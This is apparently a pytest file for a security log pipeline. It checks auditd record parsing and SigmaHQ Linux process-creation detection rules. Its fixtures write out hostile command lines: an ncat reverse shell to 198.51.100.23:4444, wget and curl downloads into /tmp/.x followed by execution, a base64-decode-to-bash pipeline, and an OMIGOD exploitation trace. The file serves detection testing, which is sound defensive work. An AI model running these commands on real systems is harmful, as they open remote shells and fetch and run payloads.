"""Linux audit records, including hex-encoded values, and EXECVE records as process starts."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from socpipe.collectors.files import FileEventReader
from socpipe.collectors.parsers import ParseContext, parse_detected
from socpipe.collectors.parsers.audit_stream import AuditStream
from socpipe.collectors.parsers.auditd import decode_value
from socpipe.detectors.engine import SigmaEngine
from socpipe.detectors.logsource import event_logsource, routing_key
from socpipe.detectors.rules import load_rules
from tests.audit_records import call
from tests.conftest import shared_data

CONTEXT = ParseContext(reference_time=datetime(2026, 3, 10, tzinfo=UTC))


def test_syscall_record() -> None:
    line = 'type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=2 success=no exit=-13 a0=7fffd19c5592 ppid=2686 pid=3538 auid=500 uid=500 comm="cat" exe="/bin/cat" key="sshd_config"'
    event, parser = parse_detected(line, CONTEXT)
    assert parser.name == "auditd"
    assert event["@timestamp"] == "2013-03-28T14:36:03.243Z"
    assert event["auditd.log.type"] == "SYSCALL"
    assert event["auditd.log.sequence"] == 24287
    assert event["process.executable"] == "/bin/cat"
    assert event["process.name"] == "cat"
    assert event["process.pid"] == 3538
    assert event["process.parent.pid"] == 2686
    assert event["event.outcome"] == "failure"
    assert event["tags"] == ["sshd_config"]
    # a0 of a SYSCALL record is a pointer, not hex text: it stays as written.
    assert event["auditd.log.a0"] == "7fffd19c5592"


def test_execve_arguments_decoded_from_hex() -> None:
    line = 'type=EXECVE msg=audit(1700000000.1:9): argc=3 a0="bash" a1="-c" a2=6563686F202268692074686572652220'
    event, _ = parse_detected(line, CONTEXT)
    assert event["process.args"] == ["bash", "-c", 'echo "hi there" ']
    assert event["process.command_line"] == 'bash -c echo "hi there" '


def test_proctitle_nul_separated() -> None:
    assert decode_value("proctitle", "2F62696E2F7368002D69") == "/bin/sh -i"
    assert decode_value("proctitle", '"plain"') == "plain"
    assert decode_value("proctitle", "ABC") == "ABC"


def test_user_record_with_nested_msg() -> None:
    line = 'type=USER_LOGIN msg=audit(1700000000.5:77): pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.5 terminal=sshd res=failed\''
    event, _ = parse_detected(line, CONTEXT)
    assert event["user.name"] == "root"
    assert event["source.ip"] == "203.0.113.5"
    assert event["event.outcome"] == "failure"
    assert "user.audit.id" not in event


# --- EXECVE records as process starts (Sigma's Linux process_creation) -----------------------


def parse_stream(lines: list[str], context: ParseContext = CONTEXT) -> list[dict]:
    stream = context.new_stream()
    return [parse_detected(line, stream)[0] for line in lines]


def execve_events(events: list[dict]) -> list[dict]:
    return [event for event in events if event.get("auditd.log.type") == "EXECVE"]


def test_execve_takes_executable_pids_and_user_from_its_syscall_record() -> None:
    lines = call(
        501,
        pid=2245,
        ppid=2201,
        exe="/usr/bin/ncat",
        args=["ncat", "-e", "/bin/bash", "198.51.100.23", "4444"],
    )
    (execve,) = execve_events(parse_stream(lines))
    assert execve["process.executable"] == "/usr/bin/ncat"
    assert execve["process.name"] == "ncat"
    assert execve["process.pid"] == 2245
    assert execve["process.parent.pid"] == 2201
    assert execve["user.id"] == "33"
    assert execve["process.command_line"] == "ncat -e /bin/bash 198.51.100.23 4444"
    assert execve["event.category"] == ["process"]
    assert execve["event.type"] == ["start"]
    assert execve["event.outcome"] == "success"


def test_enriched_log_format_gives_the_user_name() -> None:
    syscall = (
        call(502, 2300, 2201, "/usr/bin/id", ["id"])[0]
        + '\x1dARCH=x86_64 SYSCALL=execve AUID="thanhnv" UID="www-data"'
    )
    events = parse_stream([syscall, call(502, 2300, 2201, "/usr/bin/id", ["id"])[1]])
    assert events[0]["user.name"] == "www-data"
    assert events[1]["user.name"] == "www-data"


def test_records_of_interleaved_calls_join_by_serial_and_host() -> None:
    first = call(601, 3001, 3000, "/usr/bin/curl", ["curl", "-s", "http://198.51.100.23/x"])
    second = call(602, 3002, 3000, "/usr/bin/base64", ["base64", "-d"])
    # Two CPUs finishing their calls at once: the records of the two calls interleave.
    events = parse_stream([first[0], second[0], second[1], first[1]])
    assert events[2]["process.executable"] == "/usr/bin/base64"
    assert events[3]["process.executable"] == "/usr/bin/curl"


def test_syscall_of_another_host_does_not_join() -> None:
    syscall = call(700, 4001, 4000, "/usr/bin/ncat", ["ncat"])[0]
    execve = call(700, 4001, 4000, "/usr/bin/ncat", ["ncat"])[1]
    events = parse_stream(
        [f"Mar  3 10:00:00 web01 audispd: {syscall}", f"Mar  3 10:00:00 web02 audispd: {execve}"]
    )
    assert events[1]["host.name"] == "web02"
    assert "process.executable" not in events[1]
    same_host = parse_stream(
        [f"Mar  3 10:00:00 web01 audispd: {syscall}", f"Mar  3 10:00:00 web01 audispd: {execve}"]
    )
    assert same_host[1]["process.executable"] == "/usr/bin/ncat"
    assert same_host[1]["event.module"] == "auditd"


def test_node_prefix_names_the_host() -> None:
    line = "node=db01.sotttt.local " + call(800, 5001, 5000, "/usr/bin/id", ["id"])[1]
    event, parser = parse_detected(line, CONTEXT.new_stream())
    assert parser.name == "auditd"
    assert event["host.name"] == "db01.sotttt.local"
    assert event["process.command_line"] == "id"


def test_parent_executable_comes_from_the_parent_start_seen_before() -> None:
    parent = call(901, 6001, 1, "/tmp/.x/updater", ["/tmp/.x/updater"])
    child = call(902, 6002, 6001, "/usr/bin/dash", ["sh", "-c", "id"])
    orphan = call(903, 6003, 5999, "/usr/bin/dash", ["sh", "-c", "id"])
    events = execve_events(parse_stream(parent + child + orphan))
    assert events[1]["process.parent.executable"] == "/tmp/.x/updater"
    assert events[1]["process.parent.command_line"] == "/tmp/.x/updater"
    assert "process.parent.executable" not in events[2]  # its parent started before the log


def test_failed_exec_is_not_a_process_start() -> None:
    lines = call(950, 7001, 7000, "/tmp/x", ["/tmp/x"], ok="no")
    (execve,) = execve_events(parse_stream(lines))
    assert execve["event.outcome"] == "failure"
    assert "event.category" not in execve
    assert event_logsource(routing_key(execve)).categories == frozenset()


def test_execve_routes_to_process_creation_and_auditd() -> None:
    events = parse_stream(call(960, 7101, 7100, "/usr/bin/id", ["id"]))
    sources = [event_logsource(routing_key(event)) for event in events]
    assert [sorted(source.categories) for source in sources] == [
        [],
        ["process_creation"],
        [],
        [],
        [],
    ]
    assert all(source.services == frozenset({"auditd"}) for source in sources)


def test_long_argument_chunks_are_joined() -> None:
    payload = "echo " + "A" * 40 + " | base64 -d | bash"
    raw = payload.encode().hex().upper()
    line = (
        f'type=EXECVE msg=audit(1772539200.1:970): argc=3 a0="bash" a1="-c" a2_len={len(raw)}'
        f" a2[0]={raw[:30]} a2[1]={raw[30:]}"
    )
    event, _ = parse_detected(line, CONTEXT.new_stream())
    assert event["process.args"] == ["bash", "-c", payload]
    assert event["auditd.log.a2"] == payload


def test_each_file_is_a_stream_of_its_own(tmp_path) -> None:
    first = tmp_path / "web01-audit.log"
    second = tmp_path / "web02-audit.log"
    first.write_text("\n".join(call(980, 8001, 1, "/tmp/.x/updater", ["/tmp/.x/updater"])) + "\n")
    # The same pid on another host: its start must not become this child's parent.
    second.write_text("\n".join(call(981, 8002, 8001, "/usr/bin/dash", ["sh"])) + "\n")
    events = execve_events(list(FileEventReader(CONTEXT).read([first, second])))
    assert events[0]["process.executable"] == "/tmp/.x/updater"
    assert "process.parent.executable" not in events[1]


def test_stream_memory_is_bounded() -> None:
    stream = AuditStream(max_pending=2, max_processes=2)
    for number in range(5):
        stream.remember_syscall(f"call{number}", {"process.pid": number})
        stream.remember_process(f"pid{number}", f"/bin/p{number}", "")
    assert stream.syscall("call2") is None
    assert stream.syscall("call4") == {"process.pid": 4}
    assert stream.process("pid2") is None
    assert stream.process("pid3") == ("/bin/p3", "")
    stream.remember_process("pid3", "/bin/again", "")  # a reused pid becomes the youngest
    stream.remember_process("pid5", "/bin/p5", "")
    assert stream.process("pid3") == ("/bin/again", "")
    assert stream.process("pid4") is None


# --- SigmaHQ's Linux process_creation rules on audit records ---------------------------------

SIGMAHQ_PROCESS_RULES = {
    "7f734ed0-4f47-46c0-837f-6ee62505abd9": "proc_creation_lnx_netcat_reverse_shell.yml",
    "ba592c6d-6888-43c3-b8c6-689b8fe47337": "proc_creation_lnx_base64_execution.yml",
    "e2072cab-8c9a-459b-b63c-40ae79e27031": "proc_creation_lnx_base64_decode.yml",
    "cf610c15-ed71-46e1-bdf8-2bd1a99de6c4": "proc_creation_lnx_wget_download_suspicious_directory.yml",
    "6419afd1-3742-47a5-a7e6-b50386cd15f8": "proc_creation_lnx_chmod_targeting_sensitive_directories.yml",
    "2fade0b6-7423-4835-9d4f-335b39b83867": "proc_creation_lnx_susp_shell_child_process_from_parent_tmp_folder.yml",
    "818f7b24-0fba-4c49-a073-8b755573b9c7": "proc_creation_lnx_webshell_detection.yml",
}


def process_engine(rules: dict[str, str]) -> SigmaEngine:
    """SigmaHQ's Linux process_creation rules named by file (by id), from ../shared/data."""
    folder = shared_data("sigma", "rules", "linux", "process_creation")
    report = load_rules([folder / name for name in rules.values()])
    assert report.errors == [] and {rule.id for rule in report.rules} == set(rules)
    return SigmaEngine(report.rules)


@pytest.fixture(scope="module")
def sigmahq_process_engine() -> SigmaEngine:
    return process_engine(SIGMAHQ_PROCESS_RULES)


def rules_raised(engine: SigmaEngine, lines: list[str]) -> list[set[str]]:
    """The SigmaHQ rules each EXECVE record of an audit stream raises."""
    return [
        {rule.id for rule in engine.match(event)} for event in execve_events(parse_stream(lines))
    ]


def test_sigmahq_reverse_shell_rule_matches_an_audited_ncat(sigmahq_process_engine) -> None:
    lines = call(
        1001, 9001, 8990, "/usr/bin/ncat", ["ncat", "-e", "/bin/bash", "198.51.100.23", "4444"]
    )
    assert rules_raised(sigmahq_process_engine, lines) == [{"7f734ed0-4f47-46c0-837f-6ee62505abd9"}]


def test_sigmahq_base64_to_shell_rules_match_a_cron_or_webshell_pipeline(
    sigmahq_process_engine,
) -> None:
    # A pipeline run through sh -c (cron, a web shell, ssh host cmd): the shell's argv holds it
    # all; base64 then runs as its own process.
    pipeline = "echo ZWNobyBwd25lZCA+IC90bXAvLng= | base64 -d | bash"
    lines = call(1101, 9101, 9100, "/usr/bin/dash", ["sh", "-c", pipeline])
    lines += call(1102, 9102, 9101, "/usr/bin/base64", ["base64", "-d"])
    assert rules_raised(sigmahq_process_engine, lines) == [
        {"ba592c6d-6888-43c3-b8c6-689b8fe47337"},
        {"e2072cab-8c9a-459b-b63c-40ae79e27031"},
    ]


def test_sigmahq_rules_follow_a_download_to_tmp_chmod_and_run(sigmahq_process_engine) -> None:
    lines = call(
        1201,
        9201,
        9200,
        "/usr/bin/wget",
        ["wget", "-q", "-O", "/tmp/.x/kworker", "http://198.51.100.23/k"],
    )
    lines += call(1202, 9202, 9200, "/usr/bin/chmod", ["chmod", "+x", "/tmp/.x/kworker"])
    lines += call(1203, 9203, 9200, "/tmp/.x/kworker", ["/tmp/.x/kworker"])
    # The dropped binary starts a shell: ParentImage is known from its own start above.
    lines += call(1204, 9204, 9203, "/usr/bin/dash", ["sh", "-c", "id"])
    assert rules_raised(sigmahq_process_engine, lines) == [
        {"cf610c15-ed71-46e1-bdf8-2bd1a99de6c4"},
        {"6419afd1-3742-47a5-a7e6-b50386cd15f8"},
        set(),
        {"2fade0b6-7423-4835-9d4f-335b39b83867"},
    ]


def test_sigmahq_webshell_rule_sees_apache_as_the_parent(sigmahq_process_engine) -> None:
    lines = call(1301, 900, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0)
    lines += call(1302, 9301, 900, "/usr/bin/whoami", ["whoami"])
    assert rules_raised(sigmahq_process_engine, lines) == [
        set(),
        {"818f7b24-0fba-4c49-a073-8b755573b9c7"},
    ]


def test_sigmahq_process_rules_stay_quiet_on_routine_commands(sigmahq_process_engine) -> None:
    lines = call(
        1401,
        9401,
        9400,
        "/usr/bin/wget",
        [
            "wget",
            "-q",
            "-O",
            "/var/cache/socpipe/rules.tar.gz",
            "https://repo.example.gov.vn/rules.tar.gz",
        ],
    )
    lines += call(1402, 9402, 9400, "/usr/bin/chmod", ["chmod", "644", "/var/www/html/index.php"])
    lines += call(1403, 9403, 9400, "/usr/bin/ncat", ["ncat", "-l", "8080"])
    lines += call(1404, 9404, 9400, "/usr/bin/base64", ["base64", "/etc/hostname"])
    lines += call(
        1405, 9405, 9400, "/usr/bin/dash", ["sh", "-c", "tar czf /backup/www.tgz /var/www"]
    )
    assert rules_raised(sigmahq_process_engine, lines) == [set()] * 5


# --- CurrentDirectory: SigmaHQ's OMIGOD rules on audit records -------------------------------

OMIGOD_RULES = {
    "21541900-27a9-4454-9c4c-3f0a4240344a": "proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml",
    "6eea1bf6-f8d2-488a-a742-e6ef6c1b67db": "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml",
}
SHELL_COMMAND, SCRIPT = OMIGOD_RULES
SCX_TMP = "/var/opt/microsoft/scx/tmp"


@pytest.fixture(scope="module")
def omigod_engine() -> SigmaEngine:
    return process_engine(OMIGOD_RULES)


def omigod_attack(cwd: str | None) -> list[str]:
    """OMIGOD (CVE-2021-38647): a request without credentials to OMI's /wsman makes omiagent,
    running as root since boot (no login: auid unset), run a shell command and a script
    through SCX's RunAsProvider, in SCX's temporary folder."""
    agent = "/opt/omi/bin/omiagent"
    lines = call(2001, 1840, 1, agent, [agent, "9", "10", "--destdir", "/"], uid=0, user="root")
    for serial, pid, args in (
        (2002, 31337, ["/bin/sh", "-c", "id"]),
        (2003, 31338, ["/bin/sh", "/etc/opt/microsoft/scx/conf/tmpdir/scx7ab12-1"]),
    ):
        lines += call(
            serial, pid, 1840, "/usr/bin/dash", args, uid=0, cwd=cwd, user="root", auid=4294967295
        )
    return lines


def omigod_raised(engine: SigmaEngine, tmp_path, lines: list[str]) -> list[set[str]]:
    """The OMIGOD rules each process start of a scanned audit.log raises."""
    log = tmp_path / "audit.log"
    log.write_text("\n".join(lines) + "\n")
    events = execve_events(list(FileEventReader(CONTEXT).read([log])))
    return [{rule.id for rule in engine.match(event)} for event in events]


def test_sigmahq_omigod_rules_match_a_shell_run_in_scx_tmp(omigod_engine, tmp_path) -> None:
    assert omigod_raised(omigod_engine, tmp_path, omigod_attack(SCX_TMP)) == [
        set(),
        {SHELL_COMMAND},
        {SHELL_COMMAND, SCRIPT},
    ]


@pytest.mark.parametrize("cwd", ["/root", "/var/opt/microsoft/scx", None])
def test_sigmahq_omigod_rules_need_the_scx_tmp_directory(omigod_engine, tmp_path, cwd) -> None:
    # None: the audit rules exclude CWD records, so the directory is unknown and cannot match.
    assert omigod_raised(omigod_engine, tmp_path, omigod_attack(cwd)) == [set()] * 3


def test_omigod_fields_the_rules_test(tmp_path) -> None:
    log = tmp_path / "audit.log"
    log.write_text("\n".join(omigod_attack(SCX_TMP)) + "\n")
    shell = execve_events(list(FileEventReader(CONTEXT).read([log])))[1]
    assert shell["process.working_directory"] == SCX_TMP  # CurrentDirectory
    assert shell["user.name"] == "root"  # User
    assert shell["user.id"] == "0"  # LogonId, as Sysmon for Linux writes it: the uid
    assert "user.audit.id" not in shell  # started at boot, no login: auid unset
    assert shell["process.parent.executable"] == "/opt/omi/bin/omiagent"
